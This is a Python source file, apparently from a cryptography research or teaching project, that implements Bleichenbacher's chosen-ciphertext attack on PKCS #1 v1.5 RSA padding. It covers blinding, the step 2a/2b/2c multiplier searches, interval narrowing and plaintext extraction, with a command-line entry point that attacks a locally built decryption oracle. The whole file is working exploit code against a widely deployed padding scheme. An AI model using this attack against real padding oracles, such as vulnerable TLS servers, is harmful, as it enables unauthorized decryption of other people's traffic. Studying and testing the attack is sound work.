"""
Chosen-ciphertext attack on PKCS #1 v1.5
http://archiv.infsec.ethz.ch/education/fs08/secsem/bleichenbacher98.pdf

The attack runs as a small state machine: blinding, then rounds of searching for a
conforming multiplier, narrowing the interval set and checking for a solution. Callers drive
it round by round through Bleichenbacher.next_round() or all at once through run().
"""
import logging
import sys
from collections import namedtuple
from os import urandom

from Crypto.Cipher import PKCS1_v1_5
from Crypto.Util.number import inverse

from .attack_args import parse_args, read_ciphertext, read_key
from .bounds import (ModulusContext, narrow, step2a_start, step2c_r_start, step2c_s_range,
                     step2x_bound)
from .errors import AttackAbandoned, BleichenbacherError, InvariantViolation, MalformedInput
from .intervals import IntervalSet
from .message import Preparer, blind
from .oracles import BudgetOracle, DecryptionOracle
from .PKCS_1_5 import parse

logger = logging.getLogger(__name__)

BLINDING = "blinding"
SEARCHING = "searching"
NARROWING = "narrowing"
EXTRACTING = "extracting"
WINDOWING = "windowing"
DONE = "done"

# smaller multipliers keep every value of [2B, 3B) below the first window 01 02
WINDOW_START = 256 // 3
SECRET_LENGTH = 16

AttackConfig = namedtuple(
    "AttackConfig",
    ["oracle", "ciphertext", "conforming", "max_queries", "max_rounds", "windowed_search",
     "window_limit", "blinding"],
    defaults=(False, None, None, False, 1500, "linear"))
AttackConfig.__doc__ = """
Immutable attack parameters.
:param oracle: Oracle to query.
:param ciphertext: the value to attack, k bytes or an integer below n.
:param conforming: the ciphertext is known to be PKCS conforming; blinding is skipped.
:param max_queries: budget of oracle queries, unlimited if None.
:param max_rounds: budget of search rounds, unlimited if None.
:param windowed_search: probe small multipliers for windows before the first search.
:param window_limit: multipliers below this are probed by the windowed search.
:param blinding: "linear" (s0 = 1, 2, ...) or "random".
"""

RoundOutcome = namedtuple("RoundOutcome",
                          ["round", "phase", "s", "intervals", "queries", "done", "result"])


class AttackResult(namedtuple("AttackResult", ["plaintext", "s0", "rounds", "queries", "k"])):
    """
    Outcome of a successful attack; plaintext is (c ** d) mod n as an integer.
    """
    __slots__ = ()

    def to_bytes(self):
        return self.plaintext.to_bytes(self.k, byteorder="big")

    def message(self):
        """
        :return: the payload of the recovered encryption block, None if it does not parse.
        """
        return parse(self.to_bytes())


class Bleichenbacher:
    """
    Given an oracle for conformity of PKCS #1 encryptions and a value c, computes
        m = (c ** d) mod n.
    """

    def __init__(self, config):
        if config.blinding not in ("linear", "random"):
            raise ValueError("unknown blinding mode %r" % (config.blinding,))
        self.config = config
        self.ctx = ModulusContext.from_key(config.oracle.public_key)
        oracle = config.oracle
        if oracle.block_size < self.ctx.k:
            raise MalformedInput("oracle block size %d below modulus length %d"
                                 % (oracle.block_size, self.ctx.k))
        if config.max_queries is not None:
            oracle = BudgetOracle(oracle, config.max_queries)
        self._oracle = oracle
        self._prepare = Preparer(self.ctx, oracle)
        self._plaintext_oracle = oracle.is_plaintext_oracle
        self._c = self._read_ciphertext(config.ciphertext)

        self._c0 = None
        self._s0 = None
        self._si = None
        self._m = None
        self._round = 0
        self._queries = 0
        self._phase = BLINDING
        self._window_pending = config.windowed_search
        self._result = None

        logger.info("B computed: %#x", self.ctx.B)
        logger.info("Blocksize: %d bytes", oracle.block_size)

    def _read_ciphertext(self, c):
        if isinstance(c, (bytes, bytearray)):
            if len(c) != self._oracle.block_size:
                raise MalformedInput("ciphertext of %d bytes, expected %d"
                                     % (len(c), self._oracle.block_size))
            c = int.from_bytes(c, byteorder="big")
        if not 0 <= c < self.ctx.n:
            raise MalformedInput("ciphertext is not below the modulus")
        return c

    @property
    def queries(self):
        return self._queries

    @property
    def round(self):
        return self._round

    @property
    def phase(self):
        """
        Current phase; after an error, the phase that raised it.
        """
        return self._phase

    @property
    def intervals(self):
        """
        Snapshot of the current interval set M_i (empty before blinding).
        """
        return list(self._m) if self._m is not None else []

    @property
    def s0(self):
        return self._s0

    @property
    def si(self):
        return self._si

    @property
    def c0(self):
        return self._c0

    @property
    def done(self):
        return self._result is not None

    @property
    def result(self):
        return self._result

    def _conforms(self, c, s):
        """
        Query the oracle with (c * s ** e) mod n, or (c * s) mod n for a plaintext oracle.
        """
        self._queries += 1
        if self._queries % 100 == 0:
            logger.debug("# of queries so far: %d", self._queries)
        return self._oracle.check_pkcs_conformity(self._prepare(c, s))

    def _random_multiplier(self):
        while True:
            s = int.from_bytes(urandom(self.ctx.k), byteorder="big") % self.ctx.n
            if s > 1:
                return s

    def _blinding(self):
        """
        Step 1 of the attack: find s_0 such that c_0 = (c * (s_0) ** e) mod n conforms.
        """
        logger.info("Step 1: Blinding")
        if self.config.conforming:
            logger.info("Step skipped --> Message is considered as PKCS compliant.")
            s = 1
        elif self._conforms(self._c, 1):
            s = 1
        elif self.config.blinding == "random":
            s = self._random_multiplier()
            while not self._conforms(self._c, s):
                s = self._random_multiplier()
        else:
            s = 2
            while not self._conforms(self._c, s):
                s += 1
        self._s0 = s
        self._c0 = blind(self.ctx, self._c, s, self._plaintext_oracle)
        self._m = IntervalSet([self.ctx.initial_interval()])
        logger.info(" Found s0 : %d", s)

    def _windowed_search(self):
        """
        Step 2.x of the attack: probe small multipliers and tighten M with the window each
            conforming one falls into.
        :return: the last multiplier that tightened M, None if none did
        """
        logger.info("Step 2x: Starting the windowed search")
        found = None
        lower = self._m[0].lower - 1
        upper = self._m[-1].upper + 1
        for s in range(WINDOW_START, self.config.window_limit):
            # s * m must stay below n, or the window index says nothing about m
            if s * upper > self.ctx.n:
                continue
            if not self._conforms(self._c0, s):
                continue
            # windows of s are 256B / s apart; with more than one inside (lower, upper) the
            # accepted one need not hold the plaintext
            if s * (upper - lower + 1) > self.ctx.B256:
                continue
            bound = step2x_bound(self.ctx, s, lower, upper)
            if bound is None:
                continue
            m = self._m.intersect(*bound)
            if not m:
                raise InvariantViolation("window [%#x, %#x] of s=%d excludes every candidate"
                                         % (bound[0], bound[1], s))
            self._m = m
            lower, upper = bound[0] - 1, bound[1] + 1
            found = s
            logger.info(" Window of s=%d: [%#x, %#x]", s, bound[0], bound[1])
        if found is None:
            logger.info(" No window found below %d, falling back to linear search",
                        self.config.window_limit)
        return found

    def _step2a(self):
        """
        Step 2.a of the attack: smallest s >= n / 3B such that c_0 * s ** e conforms.
        """
        logger.info("Step 2a: Starting the search")
        s = step2a_start(self.ctx)
        while not self._conforms(self._c0, s):
            s += 1
        return s

    def _step2b(self):
        """
        Step 2.b of the attack: more than one interval left, smallest s > s_{i-1} that conforms.
        """
        logger.info("Step 2b: Searching with more than one interval left")
        s = self._si + 1
        while not self._conforms(self._c0, s):
            s += 1
        return s

    def _step2c(self):
        """
        Step 2.c of the attack: one interval [a, b] left, search small values of r and s.
        """
        logger.info("Step 2c: Searching with one interval left")
        a, b = self._m[0]
        r = step2c_r_start(self.ctx, b, self._si)
        while True:
            start_s, end_s = step2c_s_range(self.ctx, a, b, r)
            for s in range(start_s, end_s + 1):
                if self._conforms(self._c0, s):
                    return s
            r += 1

    def _search(self):
        if self._round == 1:
            return self._step2a()
        if len(self._m) > 1:
            return self._step2b()
        return self._step2c()

    def _narrow(self):
        """
        Step 3 of the attack: narrow the set of solutions.
        """
        m = narrow(self.ctx, self._m, self._si)
        if not m:
            raise InvariantViolation("no interval left for M%d with s=%d" % (self._round, self._si))
        self._m = m
        logger.info(" # of intervals for M%d: %d", self._round, len(m))

    def _extract(self):
        """
        Step 4 of the attack: compute the solution once a single value is left.
        :return: whether the attack is solved
        """
        if not self._m.width_one():
            return False
        try:
            s0_inv = inverse(self._s0, self.ctx.n)
        except ValueError:
            raise InvariantViolation("s0=%d is not invertible modulo n" % self._s0)
        plaintext = (self._m[0].lower * s0_inv) % self.ctx.n
        if self._plaintext_oracle:
            valid = plaintext == self._c
        else:
            valid = pow(plaintext, self.ctx.e, self.ctx.n) == self._c
        if not valid:
            raise InvariantViolation("recovered value does not match the ciphertext")
        self._result = AttackResult(plaintext, self._s0, self._round, self._queries, self.ctx.k)
        logger.info("====> Solution found!\n%s", self._result.to_bytes().hex())
        return True

    def _outcome(self):
        return RoundOutcome(self._round, self._phase, self._si, self.intervals, self._queries,
                            self.done, self._result)

    def next_round(self):
        """
        Run blinding if still needed, then one round of search, narrowing and extraction.
        With windowed_search, the first call stops after the windowed search and reports it
            as round 0.
        :return: RoundOutcome describing the state after the round
        """
        if self.done:
            return self._outcome()
        if self._m is None:
            self._blinding()
        if self._window_pending:
            self._window_pending = False
            self._phase = WINDOWING
            self._si = self._windowed_search()
            self._phase = SEARCHING
            return self._outcome()
        if self.config.max_rounds is not None and self._round >= self.config.max_rounds:
            raise AttackAbandoned(self._round, self._queries)

        self._round += 1
        self._phase = SEARCHING
        logger.info("Round %d (total queries %d)", self._round, self._queries)
        self._si = self._search()
        logger.info(" Found s%d: %d", self._round, self._si)

        self._phase = NARROWING
        self._narrow()

        self._phase = EXTRACTING
        self._phase = DONE if self._extract() else SEARCHING
        return self._outcome()

    def rounds(self):
        """
        Generator over the outcome of every round until the attack is solved.
        """
        while not self.done:
            yield self.next_round()

    def run(self):
        """
        Run the attack to completion.
        :return: AttackResult
        """
        for _ in self.rounds():
            pass
        logger.info("// Total # of queries: %d", self._queries)
        return self._result


def bleichenbacher_attack(oracle, c, conforming=False, **kwargs):
    """
    Given an oracle for conformity of PKCS #1 encryptions, along with a value c,
        calculate m = (c ** d) mod n
    :param oracle: oracle that checks ciphertext conformity
    :param c: input parameter, k bytes or an integer
    :param conforming: c is known to be a conforming encryption
    :param kwargs: further AttackConfig fields
    :return: m as a k byte block
    """
    config = AttackConfig(oracle, c, conforming, **kwargs)
    return Bleichenbacher(config).run().to_bytes()


def main(argv=None):
    args = parse_args(argv)
    level = {0: logging.WARNING, 1: logging.INFO}.get(args.verbose, logging.DEBUG)
    logging.basicConfig(level=level, format="%(asctime)s %(name)s %(levelname)s: %(message)s")

    key = read_key(args.private_key)
    oracle = DecryptionOracle(key, args.oracle_type, args.expected_length)

    conforming = args.conforming
    try:
        if args.given_enc is not None:
            c = read_ciphertext(args.given_enc, key.size_in_bytes())
        else:
            # PKCS #1 v1.5 leaves at most k - 11 bytes for the message
            plain = urandom(min(SECRET_LENGTH, key.size_in_bytes() - 11))
            print("Encrypting", plain.hex())
            c = PKCS1_v1_5.new(key).encrypt(plain)
            conforming = True
        result = bleichenbacher_attack(oracle, c, conforming, max_queries=args.max_queries,
                                       max_rounds=args.max_rounds,
                                       windowed_search=args.windowed)
    except BleichenbacherError as ex:
        print("Attack failed:", ex, file=sys.stderr)
        return 1

    print(result.hex())
    data = parse(result)
    if data is not None:
        print("Unpadded:")
        print(data.hex())
    print("Total queries:", oracle.num_queries)
    return 0


if __name__ == "__main__":
    sys.exit(main())
